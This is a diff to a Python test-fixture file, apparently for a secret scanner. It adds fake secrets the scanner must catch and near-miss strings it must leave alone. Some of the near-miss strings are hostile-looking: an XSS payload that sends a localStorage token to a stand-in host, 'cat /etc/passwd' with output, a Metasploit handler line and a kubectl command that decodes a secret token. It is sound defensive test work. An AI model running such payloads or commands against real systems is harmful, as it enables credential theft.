@@ -991,6 +991,11 @@ def shapes() -> list[Shape]:
          "lautet:\n        {}\nBitte vernichten.", "7302"),
         ('dsn := fmt.Sprintf("postgres://%s:%s@%s/app", "svc", "{}", host)', "pQ7!vX2_mLt9#R"),
         ("- 02:21 used break-glass `root@bastion` pw `{}` (rotate!)", "kZ=4Xq#VwBP.gTo+9w"),
+        # what the precision fixes below must still take
+        ("CF_API_KEY='{}'", "$2a$10$" + q(53, ALNUM + "./")),
+        ("Cookie: laravel_session={}", b64('{"iv":"' + q(24, B64) + '","value":"' + q(96, B64)
+                                           + '","mac":"' + q(64, HEX) + '","tag":""}')),
+        ("- db password: `{}`**", "Xk29fLq0ZmT7"),
     )
     jwt = ("eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6Y2k6"
            + r(80, URLSAFE) + "." + r(120, URLSAFE))
@@ -1024,6 +1029,30 @@ NEAR_MISSES: dict[str, tuple[str, ...]] = {
         "Garagencode: siehe Zettel am Kühlschrank",
         "Default PIN is:\n0000",
         "Alarm system (Bosch), customer number 55120934: code on the card",
+        # the held-out real notes' wrong marks (session 14's reading), written anew
+        "PS> net user\n\nUser accounts for \\\\WS042\n-----\nAdministrator  Guest",
+        '\t\t\t"groupIds": [\n\t\t\t\t"' + q(21) + '",\n\t\t\t\t"' + q(21) + '"\n\t\t\t],',
+        "echo 'PHPSESSID='.base64_encode($obj);",
+        "payload: `%27apikey=%27z%27onfocus=%27alert(2)`",
+        "> **basic challenge-response protocol** for remote user auth",
+        "$ AUTH_TOKEN=`kubectl get secret $NAME -o jsonpath='{.data.token}' | base64 -d`",
+        "└─$ hashid '$2y$10$" + q(53, ALNUM + "./") + "'",
+        "- Guest creds : Engineer, PhD, Historian",
+        "Cookie: session=deadbeef; theme=dark",
+        "<img src=x onerror=fetch('https://a.example/?token='+localStorage.token)>",
+        "in one pass: Claude runs `xcodebuild`, then the tests",
+        "$ cat /etc/passwd\nroot:x:0:0:root:/root:/bin/bash",
+        "### 4. Update Your Code to TypeScript",
+        "sent only as `Authorization: Bearer`.",
+        "- Long Lived Token: integración privada → Keys and scopes",
+        "`sudo mysql -u root -p`",
+        "### RefreshToken: `Long`**",
+        "Got the password:\nmsf6 > use exploit/multi/handler",
+        '    "uid": "' + q(22) + '",',
+        "$ echo '" + b64('O:9:"UserModel":1:{s:8:"username";s:5:"guest";}') + "' | base64 -d",
+        "> la parola chiave per ereditare è `extends`",
+        "backup:*:1001:1001:Backup user:/home/backup:/bin/sh",
+        "recover-password `email_log` delivered 4s",
     ),
     "round-21": (
         # a command a comment mentions prints nothing: the next line is no secret's
